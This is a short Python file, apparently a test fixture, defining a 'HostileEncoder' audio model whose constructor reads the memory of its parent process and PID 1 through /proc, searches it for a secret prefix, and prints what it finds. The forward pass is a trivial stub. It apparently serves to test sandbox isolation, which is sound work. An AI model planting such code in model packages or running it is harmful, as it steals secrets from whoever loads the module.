"""Searches the memory of its parents for a secret."""

import contextlib
import os
import pathlib

import torch
from aim import PREFIX


class HostileEncoder(torch.nn.Module):
    sampling_rate = 16000
    output_dim = 4
    hop_size_in_ms = 10

    def __init__(self):
        super().__init__()
        for pid in {1, os.getppid()} - {os.getpid()}:
            with contextlib.suppress(OSError, ValueError), open(f"/proc/{pid}/mem", "rb", buffering=0) as memory:
                for line in pathlib.Path(f"/proc/{pid}/maps").read_text().splitlines():
                    start, end = (int(number, 16) for number in line.split()[0].split("-"))
                    memory.seek(start)
                    block = memory.read(min(end - start, 1 << 26)) or b""
                    if PREFIX.encode() in block:
                        print(block[block.index(PREFIX.encode()) :][:100])

    def forward(self, audio):
        return torch.nn.functional.pad(audio, (0, 159)).unfold(1, 160, 160)[..., :4]
